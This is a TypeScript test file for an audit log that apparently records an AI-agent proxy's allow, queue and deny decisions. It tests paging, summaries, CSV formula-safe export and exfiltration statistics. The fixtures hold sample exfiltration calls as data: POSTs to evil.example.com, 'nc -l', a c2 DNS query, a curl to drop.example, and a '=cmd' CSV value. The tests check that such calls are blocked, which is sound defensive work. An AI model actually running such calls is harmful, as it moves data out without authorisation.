import { describe, expect, it } from 'vitest';
import { parseWindow } from '../../../core/audit/audit-queries.ts';
import { appendMany, decision, harness, T0 } from './helpers.ts';

const SESSION = '22222222-2222-4222-8222-222222222222';

async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ text: string; chunks: number }> {
  const reader = stream.getReader();
  const decoder = new TextDecoder();
  let text = '';
  let chunks = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return { text, chunks };
    chunks += 1;
    text += decoder.decode(value, { stream: true });
  }
}

describe('audit queries', () => {
  it('lists newest first with paging and a total', async () => {
    const { log } = await harness();
    await appendMany(log, 25, (i) => ({ composite_score: i }));
    const page = log.list({ limit: 10, offset: 5, include: 'full' });
    expect(page.total).toBe(25);
    expect(page.records.map((r) => r.sequence)).toEqual([20, 19, 18, 17, 16, 15, 14, 13, 12, 11]);
    expect(page).toMatchObject({ limit: 10, offset: 5, include: 'full' });
  });

  it('include=all adds the compact short-circuit rows', async () => {
    const { log } = await harness();
    await appendMany(log, 2);
    await log.appendShortCircuit({ tool_call: { type: 'FileRead', path: '/tmp/x' }, composite_score: 0, proxy_action: 'allow', reason: 'learned_rule' });
    await appendMany(log, 1);
    expect(log.list({ limit: 20, offset: 0, include: 'full' }).records.map((r) => r.sequence)).toEqual([4, 2, 1]);
    const all = log.list({ limit: 20, offset: 0, include: 'all' });
    expect(all.total).toBe(4);
    expect(all.records[1]).toMatchObject({ sequence: 3, short_circuit: 'learned_rule', proxy_action: 'allow' });
    expect('arguments_summary' in all.records[1]!).toBe(false);
  });

  it('session_id returns every record of the session, unpaged', async () => {
    const { log } = await harness();
    await appendMany(log, 30, (i) => ({ session_id: i % 2 === 0 ? SESSION : null }));
    const result = log.listSession(SESSION, 'full');
    expect(result.total).toBe(15);
    expect(result.records).toHaveLength(15);
    expect(result.records.every((r) => r.session_id === SESSION)).toBe(true);
  });

  it('gets one record by id, undefined for an unknown id', async () => {
    const { log } = await harness();
    const record = await log.append(decision());
    expect(log.get(record.id)).toEqual(record);
    expect(log.get('nope')).toBeUndefined();
  });

  it('summary windows: today from midnight UTC, 7d by default and for unknown values, since null for all', async () => {
    const { log, clock } = await harness();
    clock.set(T0 - 20 * 86_400_000);
    await appendMany(log, 1, () => ({ proxy_action: 'deny' }));
    clock.set(T0 - 3 * 86_400_000);
    await appendMany(log, 2, () => ({ proxy_action: 'queue' }));
    clock.set(Date.parse('2025-03-09T23:59:00.000Z'));
    await appendMany(log, 1);
    clock.set(Date.parse('2025-03-10T00:00:01.000Z'));
    await appendMany(log, 3);
    clock.set(T0);
    expect(log.summary('today')).toEqual({ window: 'today', since: '2025-03-10T00:00:00.000Z', total: 3, allow: 3, queue: 0, deny: 0, include: 'full' });
    expect(log.summary(parseWindow('bogus'))).toMatchObject({ window: '7d', since: '2025-03-03T12:00:00.000Z', total: 6, queue: 2 });
    expect(log.summary('30d')).toMatchObject({ total: 7, deny: 1 });
    expect(log.summary('all')).toMatchObject({ since: null, total: 7 });
  });

  it('exports JSON {records, count} as a stream of several chunks', async () => {
    const { log } = await harness();
    await appendMany(log, 1200);
    const { text, chunks } = await readAll(log.export({ format: 'json', limit: 1100, includeCold: false, fromDate: null }));
    const body = JSON.parse(text) as { records: Array<{ sequence: number }>; count: number };
    expect(body.count).toBe(1100);
    expect(body.records).toHaveLength(1100);
    expect(body.records[0]!.sequence).toBe(1200);
    expect(chunks).toBeGreaterThan(2);
  });

  it('exports CSV with a header, quoted cells and formula-safe text', async () => {
    const { log } = await harness();
    await log.append(decision({ tool_call: { type: 'ShellExec', command: '=cmd', args: ['a,b', 'say "hi"'] } }));
    const { text } = await readAll(log.export({ format: 'csv', limit: 10, includeCold: false, fromDate: null }));
    const lines = text.split('\r\n');
    expect(lines[0]).toMatch(/^id,timestamp,sequence,session_id/);
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(`"{""command"":""=cmd"",""args"":[""a,b"",""say \\""hi\\""""]}"`);
  });

  it('exfil stats count queued and denied calls matched by egress, DLP, canary or containment filters', async () => {
    const { log } = await harness();
    const egress = [{ filter_name: 'Network Egress', matched: true, score: 8, severity: 'error', message: 'x' }];
    const dlp = [{ filter_name: 'DLP Secrets', matched: true, score: 9, severity: 'critical', message: 'x' }];
    await log.append(decision({ proxy_action: 'deny', filter_results: egress, tool_call: { type: 'HttpRequest', method: 'POST', url: 'https://evil.example.com/upload' } }));
    await log.append(decision({ proxy_action: 'deny', filter_results: dlp, tool_call: { type: 'HttpRequest', method: 'POST', url: 'https://Evil.example.com:8443/x' } }));
    await log.append(decision({ proxy_action: 'queue', filter_results: egress, tool_call: { type: 'ShellExec', command: 'nc', args: ['-l'] } }));
    await log.append(decision({ proxy_action: 'queue', filter_results: egress, tool_call: { type: 'NetConnect', host: 'db.internal', port: 5432 } }));
    await log.append(decision({ proxy_action: 'allow', filter_results: egress }));
    await log.append(decision({ proxy_action: 'deny', filter_results: [{ filter_name: 'Path Guard', matched: true, score: 9, severity: 'critical', message: '' }] }));
    expect(log.exfilStats()).toEqual({
      total_blocked: 2,
      total_queued: 2,
      total_redacted: 1,
      by_protocol: { https: 2, shell: 1, tcp: 1 },
      top_blocked_destinations: [{ domain: 'evil.example.com', count: 2 }],
    });
  });

  it('exfil stats: a call with no URL counts toward protocol totals but not destinations (NetConnect, DnsQuery)', async () => {
    const { log } = await harness();
    const egress = [{ filter_name: 'Egress policy', matched: true, score: 9, severity: 'critical', message: 'x' }];
    await log.append(decision({ proxy_action: 'deny', filter_results: egress, tool_call: { type: 'NetConnect', host: 'db.internal', port: 5432 } }));
    await log.append(decision({ proxy_action: 'deny', filter_results: egress, tool_call: { type: 'DnsQuery', name: 'c2.evil.example' } }));
    await log.append(decision({ proxy_action: 'deny', filter_results: egress, tool_call: { type: 'ShellExec', command: 'curl', args: ['https://drop.example/x'] } }));
    const stats = log.exfilStats();
    expect(stats.by_protocol).toEqual({ tcp: 1, dns: 1, https: 1 });
    expect(stats.top_blocked_destinations).toEqual([{ domain: 'drop.example', count: 1 }]);
  });

  it('exfil stats look only at the last 500 records', async () => {
    const { log } = await harness();
    const egress = [{ filter_name: 'egress', matched: true, score: 8, severity: 'error', message: 'x' }];
    await appendMany(log, 10, () => ({ proxy_action: 'deny', filter_results: egress }));
    await appendMany(log, 500);
    expect(log.exfilStats().total_blocked).toBe(0);
  });
});
